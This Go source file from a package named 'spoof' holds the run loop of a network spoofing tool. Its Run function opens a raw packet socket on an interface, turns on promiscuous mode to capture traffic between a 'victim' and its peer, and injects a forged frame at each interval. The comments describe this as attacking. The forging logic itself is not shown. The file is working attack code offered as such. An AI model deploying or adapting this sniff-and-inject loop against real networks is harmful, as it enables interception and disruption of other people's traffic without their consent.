package spoof

import (
	"context"
	"errors"
	"fmt"
	"net"
	"time"

	"golang.org/x/sys/unix"
)

// Run attacks through the interface ifname, in the network namespace of the
// calling OS thread (the socket keeps it), until ctx ends: it watches every
// frame the interface sees and sends one forged frame per interval (a
// forged frame is sent only once Forge has what its class needs).
func (s *Spoofer) Run(ctx context.Context, ifname string, interval time.Duration) error {
	ifi, err := net.InterfaceByName(ifname)
	if err != nil {
		return fmt.Errorf("spoof: %w", err)
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return fmt.Errorf("spoof: packet socket: %w", err)
	}
	defer unix.Close(fd)
	to := &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ALL), Ifindex: ifi.Index}
	if err := unix.Bind(fd, to); err != nil {
		return fmt.Errorf("spoof: bind to %s: %w", ifname, err)
	}
	// Promiscuous, while the socket lives: the frames between the victim and
	// its peer are not addressed to this interface.
	mreq := unix.PacketMreq{Ifindex: int32(ifi.Index), Type: unix.PACKET_MR_PROMISC}
	if err := unix.SetsockoptPacketMreq(fd, unix.SOL_PACKET, unix.PACKET_ADD_MEMBERSHIP, &mreq); err != nil {
		return fmt.Errorf("spoof: promiscuous mode on %s: %w", ifname, err)
	}
	buf := make([]byte, 1<<16)
	next := time.Now()
	for {
		if err := ctx.Err(); err != nil {
			return nil
		}
		// Learn from everything queued.
		for {
			n, from, err := unix.Recvfrom(fd, buf, 0)
			if errors.Is(err, unix.EAGAIN) {
				break
			}
			if err != nil {
				return fmt.Errorf("spoof: receive: %w", err)
			}
			if ll, ok := from.(*unix.SockaddrLinklayer); ok && ll.Pkttype == unix.PACKET_OUTGOING {
				continue // our own forgeries
			}
			s.Observe(buf[:n])
		}
		if now := time.Now(); !now.Before(next) {
			next = now.Add(interval)
			if f, _ := s.Forge(); f != nil {
				if err := unix.Sendto(fd, f, 0, to); err != nil && !errors.Is(err, unix.EAGAIN) && !errors.Is(err, unix.ENOBUFS) {
					return fmt.Errorf("spoof: send: %w", err)
				}
			}
		}
		ts := unix.NsecToTimespec(int64(min(max(time.Until(next), 0), 10*time.Millisecond)))
		pfd := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}
		if _, err := unix.Ppoll(pfd, &ts, nil); err != nil && !errors.Is(err, unix.EINTR) {
			return fmt.Errorf("spoof: poll: %w", err)
		}
	}
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }
